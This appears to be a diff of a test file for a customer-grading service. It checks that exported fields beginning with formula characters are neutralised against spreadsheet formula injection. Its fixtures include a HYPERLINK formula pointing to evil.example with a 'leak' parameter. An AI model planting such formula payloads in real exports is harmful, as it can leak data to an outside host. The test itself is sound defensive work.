@@ -17,8 +17,8 @@ const QUIRKY_NAME = 'Quote "Co", Ltd\nBranch; 华东';
 const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r'];
 const FORMULA_NAMES = FORMULA_STARTS.map((start, index) => (index === 0 ? '=HYPERLINK("https://evil.example/?leak=1","Open")' : `${start}${index}+1 Trading Co.`));
 const FORMULA_IDS = FORMULA_STARTS.map((start, index) => `${start}91330${index}`);
-/** The prior cycle's grades start like formulas too; they come back as previous_grade. */
-const PRIOR_GRADES = ['@TOP', '-LOW'];
+/** The prior cycle's grades start like formulas too (grade names are trimmed: no tab or CR); they come back as previous_grade. */
+const PRIOR_GRADES = ['=', '+', '-', '@'].map((start, index) => `${start}G${index + 1}`);
 const PRIOR_NAME = '+FY2024 restated';
 /** Customers in the baseline, the quirky one and the formula-like ones. */
 const CUSTOMERS = 13 + FORMULA_STARTS.length;
@@ -163,7 +163,7 @@ beforeAll(async () => {
       periodStart: '2024-01-01',
       periodEnd: '2024-12-31',
       weights: { purchaseCount: 0.2, purchaseAmount: 0.2, amountPaid: 0.2, paymentTimeliness: 0.2, contribution: 0.2 },
-      grades: [{ name: PRIOR_GRADES[0], minScore: 50 }, { name: PRIOR_GRADES[1], minScore: 0 }],
+      grades: PRIOR_GRADES.map((name, index) => ({ name, minScore: (PRIOR_GRADES.length - 1 - index) * 10 })),
     },
   });
   priorCycleId = prior.data!.createEvaluationCycle.id;
